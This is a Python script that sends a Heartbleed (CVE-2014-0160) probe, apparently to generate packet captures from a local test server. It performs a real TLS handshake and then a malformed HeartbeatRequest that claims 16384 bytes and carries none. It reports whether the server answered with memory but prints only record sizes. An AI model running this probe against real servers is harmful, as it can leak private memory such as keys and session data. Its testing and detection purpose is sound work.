#!/usr/bin/env python3
"""heartbleed_probe.py HOST PORT: send what a Heartbleed (CVE-2014-0160) scanner sends, to a local test server.

A TLS 1.1 ClientHello offering the heartbeat extension; once the server's hello flight is in (ServerHelloDone), a
plaintext HeartbeatRequest that claims 16384 bytes of payload and carries none. A vulnerable server answers with
16 KB of its memory; a fixed one drops the request or ends the connection. Prints the records that came back.
Written for make_heartbeat_captures.sh, which runs it in a network namespace of its own.
"""
from __future__ import annotations

import os
import socket
import struct
import sys


def _vector(data: bytes, size: int) -> bytes:
    return len(data).to_bytes(size, "big") + data


def client_hello(server_name: str) -> bytes:
    suites = [0xC014, 0xC013, 0xC00A, 0xC009, 0x0039, 0x0033, 0x0035, 0x002F, 0x000A]
    extensions = b"".join(struct.pack("!H", kind) + _vector(body, 2) for kind, body in (
        (0, _vector(b"\x00" + _vector(server_name.encode(), 2), 2)),  # server_name
        (10, _vector(struct.pack("!HH", 23, 24), 2)),  # supported_groups: secp256r1, secp384r1
        (11, _vector(b"\x00", 1)),  # ec_point_formats: uncompressed
        (15, b"\x01"),  # heartbeat: peer_allowed_to_send
    ))
    body = (struct.pack("!H", 0x0302) + os.urandom(32) + _vector(b"", 1)
            + _vector(b"".join(struct.pack("!H", s) for s in suites), 2) + _vector(b"\x00", 1) + _vector(extensions, 2))
    handshake = b"\x01" + _vector(body, 3)
    return b"\x16\x03\x01" + _vector(handshake, 2)


def records(sock: socket.socket):
    """(content type, body) of each record the server sends, until it closes or goes quiet."""
    buf = b""
    while True:
        while len(buf) >= 5 and len(buf) >= 5 + int.from_bytes(buf[3:5], "big"):
            n = 5 + int.from_bytes(buf[3:5], "big")
            yield buf[0], buf[5:n]
            buf = buf[n:]
        try:
            data = sock.recv(65536)
        except (TimeoutError, ConnectionResetError):
            return
        if not data:
            return
        buf += data


def main() -> int:
    host, port = sys.argv[1], int(sys.argv[2])
    with socket.create_connection((host, port), timeout=3) as sock:
        sock.sendall(client_hello("localhost"))
        incoming = records(sock)
        for ctype, body in incoming:
            print(f"server: record type {ctype}, {len(body)} bytes")
            if ctype == 21:
                return 1
            if ctype == 22 and body[-4:] == b"\x0e\x00\x00\x00":  # ServerHelloDone ends the flight
                break
        sock.sendall(b"\x18\x03\x02\x00\x03\x01\x40\x00")  # HeartbeatRequest, payload_length 16384, no payload
        print("client: HeartbeatRequest claiming 16384 bytes, carrying 0")
        got = 0
        for ctype, body in incoming:
            print(f"server: record type {ctype}, {len(body)} bytes")
            got += len(body) if ctype == 24 else 0
        print("vulnerable: it answered with memory" if got > 64 else "not vulnerable: no answer")
    return 0


if __name__ == "__main__":
    sys.exit(main())
